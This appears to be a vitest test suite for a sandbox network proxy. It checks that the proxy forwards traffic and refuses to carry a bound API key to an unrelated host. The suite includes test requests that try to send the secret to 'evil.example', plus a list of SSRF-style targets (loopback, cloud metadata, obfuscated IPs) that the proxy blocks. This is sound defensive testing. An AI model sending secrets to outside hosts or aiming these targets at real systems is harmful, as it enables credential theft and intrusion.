import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, request as httpRequest, type IncomingMessage } from 'node:http';
import { connect, createServer as createTcpServer, type AddressInfo, type Server, type Socket } from 'node:net';
import { once } from 'node:events';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { bindSecret, Secret } from '@tendon/protocol/masking';
import { listenProxy, type Proxy } from './listen-proxy.ts';

let folder = '';
let proxy: Proxy | undefined;
const servers: Server[] = [];
const path = (): string => join(folder, 'proxy.sock');

beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'tendon-proxy-'));
});
afterEach(async () => {
  await proxy?.close();
  for (const server of servers.splice(0)) server.close();
  await rm(folder, { recursive: true, force: true });
});

async function listening(server: Server): Promise<number> {
  servers.push(server);
  await once(server.listen(0, '127.0.0.1'), 'listening');
  return (server.address() as AddressInfo).port;
}

/** Stands for the internet: whatever is asked for, this port of this machine answers. */
const internet = (port: number) => async (): Promise<Socket> => {
  const socket = connect(port, '127.0.0.1');
  await once(socket, 'connect');
  return socket;
};

async function tunnel(target: string): Promise<{ readonly head: string; readonly socket: Socket }> {
  const socket = connect(path());
  socket.write(`CONNECT ${target} HTTP/1.1\r\nhost: ${target}\r\n\r\n`);
  const [head] = (await once(socket, 'data')) as [Buffer];
  return { head: head.toString(), socket };
}

async function get(
  url: string,
): Promise<{ readonly status: number | undefined; readonly body: string; readonly response: IncomingMessage }> {
  const outgoing = httpRequest({ socketPath: path(), path: url, headers: { host: 'x', 'proxy-authorization': 'secret' } }).end();
  const [response] = (await once(outgoing, 'response')) as [IncomingMessage];
  return { status: response.statusCode, body: await text(response), response };
}

describe('proxy', () => {
  it('SB22: carries bytes both ways through CONNECT', async () => {
    const port = await listening(createTcpServer((socket) => socket.pipe(socket)));
    proxy = await listenProxy(path(), { dial: internet(port) });
    const { head, socket } = await tunnel('example.com:443');
    expect(head).toMatch(/^HTTP\/1.1 200 /);
    socket.write('ping');
    expect(String((await once(socket, 'data'))[0])).toBe('ping');
    socket.end();
    await once(socket, 'close');
  });

  it('TR918: refuses a plain request that carries a secret to a host that it is not for, in its address, a header or its body', async () => {
    const bodies: string[] = [];
    const port = await listening(
      createServer(async (request, response) => {
        const body = await text(request).catch(() => 'broken off');
        bodies.push(body);
        response.end(body);
      }),
    );
    const value = 'hunter2-hunter2-é';
    proxy = await listenProxy(path(), {
      dial: internet(port),
      boundSecrets: async () => [bindSecret('API_KEY', ['api.example.com'], new Secret(value))],
    });
    const ask = async (host: string, { at = '/', header = 'x', parts = [] as readonly (string | Buffer)[] } = {}) => {
      const outgoing = httpRequest({ socketPath: path(), method: 'POST', path: `http://${host}${at}`, headers: { host, 'x-key': header } });
      for (const part of parts) outgoing.write(part);
      outgoing.end();
      const [response] = (await once(outgoing, 'response')) as [IncomingMessage];
      return [response.statusCode, await text(response)];
    };
    const bytes = Buffer.from(`begin ${value} end`);
    const cut = [bytes.subarray(0, 12), bytes.subarray(12, 21), bytes.subarray(21)];
    const refused = [403, expect.stringContaining('the secret API_KEY may go to api.example.com alone, not to evil.example') as unknown];
    expect(await ask('evil.example', { at: `/?k=${encodeURIComponent(value)}` })).toEqual(refused);
    expect(await ask('evil.example', { header: `Basic ${Buffer.from(`me:${value}`).toString('base64')}` })).toEqual(refused);
    expect(bodies).toEqual([]);
    expect(await ask('evil.example', { parts: cut })).toEqual(refused);
    expect(bodies.join()).not.toContain('hunter2-hunter2');
    expect(await ask('eu.api.example.com', { parts: cut })).toEqual([200, bytes.toString()]);
    const harmless = ['hunter2-', 'hunter', Buffer.from([0, 255, 128])];
    expect((await ask('evil.example', { parts: harmless }))[0]).toBe(200);
    expect(bodies.at(-1)).toContain('hunter2-hunter');
  });

  it('SB22: forwards plain requests, without the headers of the hop', async () => {
    const port = await listening(createServer((request, response) => response.end(`${request.url} ${JSON.stringify(request.headers)}`)));
    proxy = await listenProxy(path(), { dial: internet(port) });
    const { status, body } = await get('http://example.com/a?b=c');
    expect(status).toBe(200);
    expect(body).toContain('/a?b=c');
    expect(body).toContain('"host":"example.com"');
    expect(body).not.toContain('secret');
  });

  it.each([
    '127.0.0.1:3000',
    'localhost:3000',
    '[::1]:3000',
    '169.254.169.254:80',
    '10.0.0.1:443',
    '2130706433:8080',
    '0x7f.1:8080',
    '0:8080',
  ])('SB20: CONNECT %s is refused with a reason', async (target) => {
    proxy = await listenProxy(path());
    const { head, socket } = await tunnel(target);
    expect(head).toMatch(/^HTTP\/1.1 (403|502) /);
    expect(head).toMatch(/Tendon's sandbox (may not|could not) connect/);
    socket.destroy();
  });

  it('SB20: a plain request to loopback is refused though something listens there', async () => {
    const port = await listening(createServer((_request, response) => response.end('secret')));
    proxy = await listenProxy(path());
    const { status, body } = await get(`http://localhost:${port}/`);
    expect([status, body]).toEqual([403, "Tendon's sandbox may not connect there: the address is loopback.\n"]);
  });

  it('SB22: what is no proxy request gets an answer, and garbage ends the connection', async () => {
    proxy = await listenProxy(path());
    expect((await get('/etc/passwd')).status).toBe(403);
    expect((await get('ftp://example.com/')).status).toBe(403);
    expect((await tunnel('no-port')).head).toMatch(/403/);
    const socket = connect(path());
    socket.on('error', () => {});
    socket.write('\0\0\0\0\r\n\r\n');
    await once(socket.resume(), 'close');
  });

  it('SB22: more connections than allowed are dropped, and close ends all', async () => {
    const port = await listening(createTcpServer((socket) => socket.on('error', () => {}).pipe(socket)));
    proxy = await listenProxy(path(), { dial: internet(port), maxConnections: 1 });
    const { socket } = await tunnel('example.com:443');
    const second = connect(path()).resume();
    second.on('error', () => {});
    await once(second, 'close');
    const closed = once(socket, 'close');
    await proxy.close();
    expect(await closed).toBeDefined();
    proxy = undefined;
  });

  it('SB23: a new server listens again where a dead one left its socket', async () => {
    const port = await listening(createServer((_request, response) => response.end('ok')));
    proxy = await listenProxy(path(), { dial: internet(port) });
    const successor = await listenProxy(path(), { dial: internet(port) });
    expect((await get('http://example.com/')).body).toBe('ok');
    await successor.close();
  });
});
